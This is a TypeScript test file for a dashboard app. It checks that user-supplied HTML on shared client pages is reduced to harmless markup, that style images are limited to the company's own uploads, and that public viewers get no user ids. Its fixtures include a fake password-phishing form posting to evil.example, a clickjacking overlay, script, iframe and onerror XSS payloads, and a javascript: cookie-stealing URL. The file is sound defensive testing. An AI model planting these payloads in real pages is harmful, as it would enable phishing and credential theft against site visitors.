import { buildInstance, buildPassiveWidget, buildWidget } from "@app/core/widgets/test-fixtures";
import { expect, it } from "vitest";
import { buildMember, buildOwner } from "../../../test/factories";
import { describeEachDb, PNG_1X1, type TestClient } from "../../../test/harness";

// What a member could paste to phish the agency's clients on a shared page.
const PHISHING_FORM = `<p>Your session expired.</p><form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><select name="s"><option>a</option></select><textarea name="t">x</textarea><button type="submit">Log in</button></form>`;
const OVERLAY = `<div style="position: fixed; inset: 0; z-index: 9999; background-color: white" onclick="steal()">Please <a href="javascript:alert(1)">sign in</a> again.</div>`;
const EMBEDS = `<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="y"><script>alert(1)</script><img src="x" onerror="alert(1)"><p class="mantine-Modal-root" style="position:absolute;top:0">c</p>`;

// A chart without a source (the save checks that sources are the company's).
const chart = (id: string, order: number, description: string | null = null) =>
  buildWidget({ id, order, hash: id, description, instances: [buildInstance({ sourceId: null })] });

async function create(client: TestClient, name: string): Promise<{ id: string; permalink: string }> {
  const response = await client.api("POST", "/api/dashboards", { name });
  expect(response.statusCode).toBe(200);
  const permalink = response.json().data.permalink;
  const shown = await client.api("GET", `/api/dashboards/${permalink}`);
  return { id: shown.json().data.id, permalink };
}

function save(client: TestClient, id: string, fields: Record<string, string>, files = {}) {
  return client.apiMultipart("POST", `/api/dashboards/${id}`, fields, files);
}

/** No trace of a control, a frame, a script, a handler, a javascript: URL or positioning in the HTML. */
function expectPresentational(html: string) {
  expect(html).not.toMatch(/<(form|input|button|select|textarea|iframe|object|embed|script)\b/i);
  expect(html).not.toMatch(/\son\w+=|javascript:|position|inset|z-index|class=/i);
}

describeEachDb("shared pages cannot be turned against clients", (env) => {
  it("user HTML (footer, text card, widget description, notes) is saved as presentational markup only", async () => {
    const { client: owner } = await buildOwner(env());
    const { id, permalink } = await create(owner, "Client report");
    const textCard = buildPassiveWidget({
      id: "w1",
      description: OVERLAY,
      inputs: {
        description: `${PHISHING_FORM}${OVERLAY}<p><b>Bold</b> <a href="https://acme.example" target="_blank">site</a></p>`,
      },
    });
    const notes = buildPassiveWidget({
      id: "w2",
      order: 1,
      type: "historic",
      inputs: {
        articles: [
          {
            file: null,
            header: "October",
            content: PHISHING_FORM,
            description: EMBEDS,
            range: { startDate: "2026-10-01", endDate: "2026-10-31" },
          },
        ],
      },
    });
    const saved = await save(owner, id, {
      footer: `${PHISHING_FORM}${OVERLAY}${EMBEDS}<p style="text-align: center; color: #333">Prepared by Acme</p>`,
      widgets: JSON.stringify([textCard, notes, chart("w3", 2, EMBEDS)]),
    });
    expect(saved.statusCode).toBe(200);

    const viewer = env().client();
    const shown = (await viewer.api("GET", `/api/dashboards/${permalink}`)).json().data;
    expectPresentational(shown.footer);
    // Presentational markup and its text stay.
    expect(shown.footer).toContain('<p style="text-align:center;color:#333">Prepared by Acme</p>');
    expect(shown.footer).toContain("Your session expired.");
    const [card, history, widget] = shown.widgets;
    expectPresentational(card.description);
    expectPresentational(card.inputs.description);
    expect(card.inputs.description).toContain(
      '<b>Bold</b> <a href="https://acme.example" target="_blank" rel="noopener noreferrer">site</a>',
    );
    expectPresentational(history.inputs.articles[0].content);
    expectPresentational(history.inputs.articles[0].description);
    expect(history.inputs.articles[0].header).toBe("October");
    expectPresentational(widget.description);

    // Saving what was read back changes nothing (the cleaning is stable).
    await save(owner, id, { footer: shown.footer, widgets: JSON.stringify(shown.widgets) });
    const again = (await viewer.api("GET", `/api/dashboards/${permalink}`)).json().data;
    expect(again.footer).toBe(shown.footer);
    expect(again.widgets).toEqual(shown.widgets);
  });

  it("style images accept only the company's own uploads, 422 per field otherwise", async () => {
    const { client: alpha } = await buildOwner(env());
    const { id, permalink } = await create(alpha, "Styled");
    const { client: beta, company: betaCompany } = await buildOwner(env());
    const betaFile = (
      await beta.apiMultipart(
        "POST",
        "/api/files/image",
        {},
        { file: { filename: "b.png", type: "image/png", data: PNG_1X1 } },
      )
    ).json().data.filename as string;
    expect(betaFile.startsWith(`/files/${betaCompany.id}/`)).toBe(true);

    const refused = await save(alpha, id, {
      styles: JSON.stringify({
        logoImage: "javascript:alert(document.cookie)",
        backgroundImage: "https://evil.example/pixel.png",
        clientImage: "data:image/png;base64,AAAA",
      }),
    });
    expect(refused.statusCode).toBe(422);
    expect(Object.keys(refused.json().errors).sort()).toEqual([
      "styles.backgroundImage",
      "styles.clientImage",
      "styles.logoImage",
    ]);
    // Well-formed paths that are not alpha's files: beta's upload, a made-up name in alpha's folder.
    const alphaCompany = (await alpha.pageData()).company;
    const foreign = await save(alpha, id, {
      styles: JSON.stringify({ logoImage: betaFile, clientImage: `/files/${alphaCompany.id}/madeup.png` }),
    });
    expect(foreign.statusCode).toBe(422);
    expect(Object.keys(foreign.json().errors).sort()).toEqual(["styles.clientImage", "styles.logoImage"]);

    // Alpha's own uploads: through the save's image parts and through the files API.
    const uploaded = await save(alpha, id, {}, { logo_image: { filename: "l.png", type: "image/png", data: PNG_1X1 } });
    expect(uploaded.statusCode).toBe(200);
    const logo = uploaded.json().data.styles.logoImage as string;
    const own = (
      await alpha.apiMultipart(
        "POST",
        "/api/files/image",
        {},
        { file: { filename: "a.png", type: "image/png", data: PNG_1X1 } },
      )
    ).json().data.filename as string;
    const accepted = await save(alpha, id, {
      styles: JSON.stringify({ logoImage: logo, backgroundImage: own, clientImage: null }),
    });
    expect(accepted.statusCode).toBe(200);
    expect(accepted.json().data.styles).toMatchObject({ logoImage: logo, backgroundImage: own, clientImage: null });

    // A value stored before images were checked is never shown.
    await env()
      .ctx.db.updateTable("dashboards")
      .set({
        styles: JSON.stringify({ logoImage: "javascript:alert(1)", backgroundImage: betaFile, clientImage: own }),
      })
      .where("id", "=", id)
      .execute();
    const shown = (await env().client().api("GET", `/api/dashboards/${permalink}`)).json().data;
    expect(shown.styles).toMatchObject({ logoImage: null, backgroundImage: null, clientImage: own });
  });

  it("public viewers get no user ids (the edit lock's holder) and the owner's white-label site title", async () => {
    const { client: owner, user: ownerUser, company } = await buildOwner(env());
    await owner.api("POST", "/api/company", { site_title: "Acme Reports" });
    const { client: member } = await buildMember(env(), { company });
    const memberUser = (await member.pageData()).user;
    const { id, permalink } = await create(owner, "Shared");
    await save(owner, id, { widgets: JSON.stringify([chart("w1", 0)]), footer: "<p>Hi</p>" });
    expect((await member.api("PUT", `/api/dashboards/${id}`, { type: "lock" })).json().data.locked).toBe(memberUser.id);

    // Members still see who holds the lock, and no foreign site title.
    const forOwner = await owner.api("GET", `/api/dashboards/${permalink}`);
    expect(forOwner.json().data.locked).toBe(memberUser.id);
    expect(forOwner.json().data.siteTitle).toBeUndefined();

    const guest = env().client();
    const { client: stranger, user: strangerUser } = await buildOwner(env());
    for (const viewer of [guest, stranger]) {
      const response = await viewer.api("GET", `/api/dashboards/${permalink}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers["x-public"]).toBe("1");
      const body = response.body;
      for (const userId of [ownerUser.id, memberUser.id, strangerUser.id]) expect(body).not.toContain(userId);
      expect(response.json().data.locked).toBeNull();
      expect(response.json().data.siteTitle).toBe("Acme Reports");
    }
  });
});
